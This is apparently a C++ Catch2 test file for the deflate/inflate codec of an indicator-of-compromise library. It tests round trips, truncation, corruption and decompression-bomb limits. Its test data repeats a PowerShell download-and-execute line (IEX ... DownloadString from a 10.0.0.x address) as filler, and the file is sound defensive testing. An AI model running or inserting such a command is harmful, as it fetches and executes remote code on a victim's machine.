#include "ioc/codec/inflate.hpp"

#include <zlib.h>
#include <catch2/catch.hpp>

#include <random>
#include <string>

using namespace std::string_literals;
using ioc::ErrorCode;
using ioc::kMiB;
using ioc::codec::Container;
using ioc::codec::deflate;
using ioc::codec::detect_container;
using ioc::codec::inflate;
using ioc::codec::InflateOptions;
using ioc::codec::InflateReport;

namespace {

std::string sample_text() {
  std::string s;
  for (int i = 0; i < 2000; ++i)
    s += "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0." + std::to_string(i % 256) +
         "/a.ps1');\n";
  return s;
}

std::string random_bytes(std::size_t n) {
  std::mt19937 rng(42);
  std::uniform_int_distribution<int> dist(0, 255);
  std::string s(n, '\0');
  for (auto& c : s) c = static_cast<char>(dist(rng));
  return s;
}

std::string compress(std::string_view data, Container c, int level = 6) {
  auto r = deflate(data, c, level);
  REQUIRE(r);
  return *r;
}

}  // namespace

TEST_CASE("deflate: round trips through inflate", "[codec][inflate]") {
  const std::string inputs[] = {
      ""s, "a"s, "hello hello hello"s, sample_text(), random_bytes(100000), "\0\0\0\xff"s};
  for (const auto& data : inputs) {
    for (auto c : {Container::kRaw, Container::kZlib, Container::kGzip}) {
      for (int level : {0, 1, 6, 9}) {
        const std::string z = compress(data, c, level);
        InflateReport rep;
        rep.trailing_bytes = 99;
        rep.truncated = true;
        auto r = inflate(z, c, {.report = &rep});
        REQUIRE(r);
        CHECK(*r == data);
        CHECK(rep.trailing_bytes == 0);
        CHECK_FALSE(rep.truncated);
        auto a = inflate(z, Container::kAuto);
        REQUIRE(a);
        CHECK(*a == data);
      }
    }
  }
}

TEST_CASE("deflate: matches zlib's own format", "[codec][inflate]") {
  const std::string data = sample_text();
  const std::string z = compress(data, Container::kZlib, 9);
  std::string out(data.size(), '\0');
  uLongf out_len = static_cast<uLongf>(out.size());
  REQUIRE(uncompress(reinterpret_cast<Bytef*>(out.data()), &out_len,
                     reinterpret_cast<const Bytef*>(z.data()),
                     static_cast<uLong>(z.size())) == Z_OK);
  CHECK(out_len == data.size());
  CHECK(out == data);
  CHECK(compress(data, Container::kZlib, 9).size() < data.size() / 10);
}

TEST_CASE("deflate: bad arguments", "[codec][inflate]") {
  auto a = deflate("x", Container::kAuto);
  REQUIRE_FALSE(a);
  CHECK(a.error().code == ErrorCode::kUsage);
  for (int level : {-1, 10}) {
    auto l = deflate("x", Container::kRaw, level);
    REQUIRE_FALSE(l);
    CHECK(l.error().code == ErrorCode::kUsage);
  }
}

TEST_CASE("detect_container", "[codec][inflate]") {
  const std::string data = sample_text();
  CHECK(detect_container(compress(data, Container::kGzip)) == Container::kGzip);
  for (int level : {0, 1, 6, 9})
    CHECK(detect_container(compress(data, Container::kZlib, level)) == Container::kZlib);
  CHECK(detect_container(compress(data, Container::kRaw)) == Container::kRaw);
  CHECK(detect_container("") == Container::kRaw);
  CHECK(detect_container("\x1f") == Container::kRaw);
  CHECK(detect_container("\x78\x9c") == Container::kZlib);
  CHECK(detect_container("\x78\x9d") == Container::kRaw);  // bad FCHECK
  CHECK(detect_container("\x1f\x8b") == Container::kGzip);
}

TEST_CASE("inflate: concatenated gzip members", "[codec][inflate]") {
  const std::string gz = compress("first,", Container::kGzip) +
                         compress("second", Container::kGzip) + compress("", Container::kGzip);
  InflateReport rep;
  auto r = inflate(gz, Container::kGzip, {.report = &rep});
  REQUIRE(r);
  CHECK(*r == "first,second");
  CHECK(rep.trailing_bytes == 0);
  CHECK(*inflate(gz, Container::kAuto) == "first,second");
}

TEST_CASE("inflate: trailing bytes", "[codec][inflate]") {
  const std::string data = sample_text();
  InflateReport rep;
  SECTION("gzip: trailing zero padding is ignored") {
    auto r = inflate(compress(data, Container::kGzip) + std::string(512, '\0'), Container::kGzip,
                     {.report = &rep});
    REQUIRE(r);
    CHECK(*r == data);
    CHECK(rep.trailing_bytes == 0);
  }
  SECTION("gzip: other trailing bytes are reported") {
    auto r = inflate(compress(data, Container::kGzip) + "junk", Container::kGzip, {.report = &rep});
    REQUIRE(r);
    CHECK(*r == data);
    CHECK(rep.trailing_bytes == 4);
  }
  SECTION("raw and zlib") {
    auto r = inflate(compress(data, Container::kRaw) + "xyz", Container::kRaw, {.report = &rep});
    REQUIRE(r);
    CHECK(*r == data);
    CHECK(rep.trailing_bytes == 3);
    auto z =
        inflate(compress(data, Container::kZlib) + "\0\0"s, Container::kZlib, {.report = &rep});
    REQUIRE(z);
    CHECK(*z == data);
    CHECK(rep.trailing_bytes == 2);
  }
}

TEST_CASE("inflate: truncated stream", "[codec][inflate]") {
  const std::string data = random_bytes(200000);
  for (auto c : {Container::kRaw, Container::kZlib, Container::kGzip}) {
    const std::string z = compress(data, c);
    const std::string half = z.substr(0, z.size() / 2);
    auto e = inflate(half, c);
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kTruncated);
    CHECK(e.error().offset == half.size());

    InflateReport rep;
    auto p = inflate(half, c, {.allow_truncated = true, .report = &rep});
    REQUIRE(p);
    CHECK(rep.truncated);
    CHECK(p->size() > 0);
    CHECK(p->size() < data.size());
    CHECK(data.compare(0, p->size(), *p) == 0);

    // Only the last byte missing (for gzip: part of the trailer).
    auto t = inflate(z.substr(0, z.size() - 1), c);
    REQUIRE_FALSE(t);
    CHECK(t.error().code == ErrorCode::kTruncated);
  }
  auto empty = inflate("", Container::kRaw);
  REQUIRE_FALSE(empty);
  CHECK(empty.error().code == ErrorCode::kTruncated);
  auto gz = inflate("\x1f\x8b", Container::kAuto);
  REQUIRE_FALSE(gz);
  CHECK(gz.error().code == ErrorCode::kTruncated);
}

TEST_CASE("inflate: corrupt data", "[codec][inflate]") {
  SECTION("invalid block type") {
    auto e = inflate("\x07\x00\x00\x00"s, Container::kRaw);
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kInvalidInput);
    CHECK(e.error().message.find("invalid block type") != std::string::npos);
    REQUIRE(e.error().has_offset());
    CHECK(e.error().offset <= 1);
  }
  SECTION("bad gzip header") {
    std::string gz = compress("hello", Container::kGzip);
    gz[2] = 7;  // compression method
    auto e = inflate(gz, Container::kGzip);
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kInvalidInput);
    CHECK(e.error().message.find("gzip") != std::string::npos);
    CHECK(e.error().has_offset());
  }
  SECTION("bad checksum") {
    std::string z = compress(sample_text(), Container::kZlib);
    z[z.size() - 1] = static_cast<char>(z[z.size() - 1] ^ 1);
    auto e = inflate(z, Container::kZlib);
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kInvalidInput);
    CHECK(e.error().message.find("incorrect data check") != std::string::npos);
    CHECK(e.error().offset == z.size());
  }
  SECTION("corruption in the middle of a stream") {
    const std::string data = sample_text();
    std::string z = compress(data, Container::kRaw);
    for (std::size_t i = 10; i < 30; ++i) z[i] = static_cast<char>(0xff);
    auto e = inflate(z, Container::kRaw);
    // Corruption may still decode to something, but must never be a silent success
    // with the original output.
    if (e)
      CHECK(*e != data);
    else
      CHECK(
          (e.error().code == ErrorCode::kInvalidInput || e.error().code == ErrorCode::kTruncated));
  }
  SECTION("preset dictionary") {
    auto e = inflate("\x78\x20\x00\x00\x00\x01\x03\x00"s, Container::kZlib);
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kUnsupported);
  }
}

TEST_CASE("inflate: max_output", "[codec][inflate]") {
  const std::string data = random_bytes(100000);
  const std::string z = compress(data, Container::kRaw);
  CHECK(inflate(z, Container::kRaw, {.max_output = data.size()}));
  auto e = inflate(z, Container::kRaw, {.max_output = data.size() - 1});
  REQUIRE_FALSE(e);
  CHECK(e.error().code == ErrorCode::kLimitExceeded);
  auto zero = inflate(z, Container::kRaw, {.max_output = 0});
  REQUIRE_FALSE(zero);
  CHECK(zero.error().code == ErrorCode::kLimitExceeded);
  // A limit error wins over allow_truncated.
  auto t = inflate(z, Container::kRaw, {.max_output = 10, .allow_truncated = true});
  REQUIRE_FALSE(t);
  CHECK(t.error().code == ErrorCode::kLimitExceeded);
}

TEST_CASE("inflate: decompression bomb", "[codec][inflate]") {
  const std::string zeros(64 * kMiB, '\0');
  const std::string bomb = compress(zeros, Container::kGzip, 9);
  REQUIRE(bomb.size() * 1000 < zeros.size());  // ratio above 1000:1

  SECTION("max_output") {
    auto e = inflate(bomb, Container::kGzip, {.max_output = 8 * kMiB, .max_ratio = 1000000});
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kLimitExceeded);
    CHECK(e.error().message == "decompressed size exceeds 8 MiB (limit)");
  }
  SECTION("default options: the ratio cap") {
    auto e = inflate(bomb, Container::kAuto);
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kLimitExceeded);
    CHECK(e.error().message == "decompression ratio exceeds 1000:1 (possible decompression bomb)");
  }
  SECTION("ratio cap with a large max_output") {
    auto e = inflate(bomb, Container::kGzip, {.max_output = 1024 * kMiB, .max_ratio = 1000});
    REQUIRE_FALSE(e);
    CHECK(e.error().code == ErrorCode::kLimitExceeded);
    CHECK(e.error().message.find("ratio") != std::string::npos);
  }
  SECTION("within both caps") {
    auto r = inflate(bomb, Container::kGzip, {.max_output = 64 * kMiB, .max_ratio = 2000});
    REQUIRE(r);
    CHECK(r->size() == zeros.size());
  }
}

TEST_CASE("inflate: small outputs are never bombs", "[codec][inflate]") {
  const std::string mib(1 * kMiB, '\0');
  CHECK(inflate(compress(mib, Container::kZlib, 9), Container::kZlib, {.max_ratio = 1}));
  auto e = inflate(compress(mib + "x", Container::kZlib, 9), Container::kZlib, {.max_ratio = 1});
  REQUIRE_FALSE(e);
  CHECK(e.error().code == ErrorCode::kLimitExceeded);
}
